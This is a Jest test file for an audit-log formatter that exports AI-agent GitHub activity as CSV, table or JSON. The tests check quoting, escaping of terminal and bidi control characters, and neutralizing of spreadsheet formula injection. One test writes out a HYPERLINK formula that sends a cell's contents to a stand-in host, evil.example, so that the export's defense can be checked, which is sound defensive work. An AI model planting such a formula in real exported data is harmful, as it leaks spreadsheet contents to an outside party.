import { describe, expect, test } from "@jest/globals";
import { formatAudit } from "../../src/audit/format-audit.js";
import type { AuditRow } from "../../src/store/store.js";

function row(overrides: Partial<AuditRow>): AuditRow {
  return {
    id: 1,
    at: "2025-03-01T10:00:00.000Z",
    deliveryId: "d-1",
    org: "acme",
    repo: "acme/widgets",
    actor: "copilot-swe-agent[bot]",
    actorKind: "agent",
    action: "issue_comment.created",
    targetNumber: 7,
    targetNodeId: null,
    targetUrl: null,
    targetSha: null,
    verdict: "held",
    reasons: ["an agent's reply to an outsider is held"],
    effects: [],
    detail: {},
    ...overrides,
  };
}

/** Splits CSV text per RFC 4180 (quoted cells may hold commas, doubled quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let cells: string[] = [];
  let cell = "";
  let quoted = false;
  const endCell = () => {
    cells.push(cell);
    cell = "";
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted && c === '"') quoted = false;
    else if (quoted) cell += c;
    else if (c === '"') quoted = true;
    else if (c === ",") endCell();
    else if (c === "\r" && text[i + 1] === "\n") {
      endCell();
      records.push(cells);
      cells = [];
      i++;
    } else cell += c;
  }
  return records;
}

describe("formatAudit csv", () => {
  test("a header line, then every field of a row, records ended by CRLF", () => {
    const text = formatAudit([row({ targetUrl: "https://github.com/acme/widgets/issues/7", detail: { mode: "enforce" } })], "csv");
    expect(text.endsWith("\r\n")).toBe(true);
    const [header, first, ...rest] = parseCsv(text);
    expect(rest).toEqual([]);
    expect(header).toEqual([
      "id",
      "at",
      "delivery_id",
      "org",
      "repo",
      "actor",
      "actor_kind",
      "action",
      "target_number",
      "target_node_id",
      "target_url",
      "target_sha",
      "verdict",
      "reasons",
      "effects",
      "detail",
    ]);
    expect(first).toEqual([
      "1",
      "2025-03-01T10:00:00.000Z",
      "d-1",
      "acme",
      "acme/widgets",
      "copilot-swe-agent[bot]",
      "agent",
      "issue_comment.created",
      "7",
      "",
      "https://github.com/acme/widgets/issues/7",
      "",
      "held",
      "an agent's reply to an outsider is held",
      "[]",
      '{"mode":"enforce"}',
    ]);
    expect(formatAudit([], "csv")).toBe(`${header!.join(",")}\r\n`);
  });

  test("a formula from an agent's comment comes out quoted with a leading ', so a spreadsheet shows it as text", () => {
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';
    const text = formatAudit([row({ reasons: [formula], detail: { text: formula } })], "csv");
    expect(text).toContain(`,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""click"")",`);
    const cells = parseCsv(text)[1]!;
    expect(cells[13]).toBe(`'${formula}`);
    // Inside the JSON of detail the formula does not start the cell: it is data, quoted as it is.
    expect(JSON.parse(cells[15]!)).toEqual({ text: formula });
  });

  test.each(["+1+2", "-2+3", "@SUM(A1:A2)", "\tcmd", "\r=1"])("a cell starting %j is neutralized", (start) => {
    const cells = parseCsv(formatAudit([row({ actor: start })], "csv"))[1]!;
    expect(cells[5]!.startsWith("'")).toBe(true);
    expect(formatAudit([row({ actor: start })], "csv")).toContain(`,"'`);
  });

  test("commas, quotes and newlines are quoted per RFC 4180 and read back unchanged", () => {
    const reasons = ['said "hi", then', "left\nthe thread"];
    const text = formatAudit([row({ reasons })], "csv");
    expect(text).toContain(`,"said ""hi"", then; left\nthe thread",`);
    expect(parseCsv(text)[1]![13]).toBe(reasons.join("; "));
    // A plain cell stays unquoted.
    expect(text).toContain(",acme/widgets,");
  });

  test("terminal escapes and bidi overrides become visible, a lone CR too", () => {
    const text = formatAudit([row({ reasons: ["a\u001b[2Jb\u202ec\rd"] })], "csv");
    expect(parseCsv(text)[1]![13]).toBe("a\\u001b[2Jb\\u202ec\\u000dd");
    // eslint-disable-next-line no-control-regex
    expect(text.replace(/\r\n/g, "")).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u202e]/);
  });
});

describe("formatAudit table and json", () => {
  test("the table has today's columns, hostile text printable; empty says so", () => {
    const lines = formatAudit([row({ reasons: ["x\u001b[31my\nz"] })], "table").split("\n");
    expect(lines[0]).toMatch(/^ID\s+AT\s+REPO\s+ACTOR\s+ACTION\s+TARGET\s+VERDICT\s+REASONS$/);
    expect(lines[1]).toMatch(/copilot-swe-agent\[bot\] \(agent\)\s+issue_comment.created\s+#7\s+held\s+x\\u001b\[31my ⏎ z$/);
    expect(lines[2]).toBe("");
    expect(formatAudit([], "table")).toBe("no audit rows match\n");
  });

  test("json: one parseable object per line, line separators escaped", () => {
    const rows = [row({ id: 1 }), row({ id: 2, reasons: ["a\u2028b\u202e"] })];
    const text = formatAudit(rows, "json");
    const lines = text.trimEnd().split("\n");
    expect(lines.map((line) => JSON.parse(line) as unknown)).toEqual(rows);
    expect(lines[1]).toContain("\\u2028");
    expect(formatAudit([], "json")).toBe("");
  });
});
